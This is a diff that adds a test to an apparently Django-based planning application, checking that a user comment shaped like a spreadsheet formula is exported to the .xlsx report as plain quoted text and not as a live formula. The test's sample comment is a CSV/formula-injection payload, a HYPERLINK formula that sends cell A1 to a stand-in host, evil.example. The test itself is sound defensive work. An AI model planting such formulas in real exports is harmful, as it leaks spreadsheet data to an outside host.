@@ -138,3 +138,24 @@ def test_assessment_page_comments_generate_finalise(year_2018, users, client):
     d = client.get(f"/plan/reports/{report.pk}/pdf/")
     assert d.status_code == 200 and b"".join(d.streaming_content).startswith(b"%PDF")
     assert Path(report_dir() / report.files["pdf"]["path"]).stat().st_mode & 0o222 == 0
+
+
+def test_a_comment_that_looks_like_a_formula_is_text_in_the_xlsx(year_2018, users, client,
+                                                                   tmp_path):
+    """A partner's comment (from the assessment page) reaches the .xlsx as text (tabular.safe)."""
+    import re
+    import zipfile
+
+    evil = '=HYPERLINK("http://evil.example/?c="&A1,"详见")'
+    client.force_login(users["leadership"])
+    assert client.post("/plan/assessment/2018/comments/", {"text": evil}).status_code == 302
+    data = report_data(plan=year_2018, year=2018, user=users["county_admin"],
+                       as_of=datetime.date(2019, 1, 15))
+    path = build_report(data, out_dir=tmp_path, formats=("xlsx",))["xlsx"]
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert not re.search(r"<f[ >]", z.read(name).decode()), name
+    ws = load_workbook(path)["评议意见"]
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
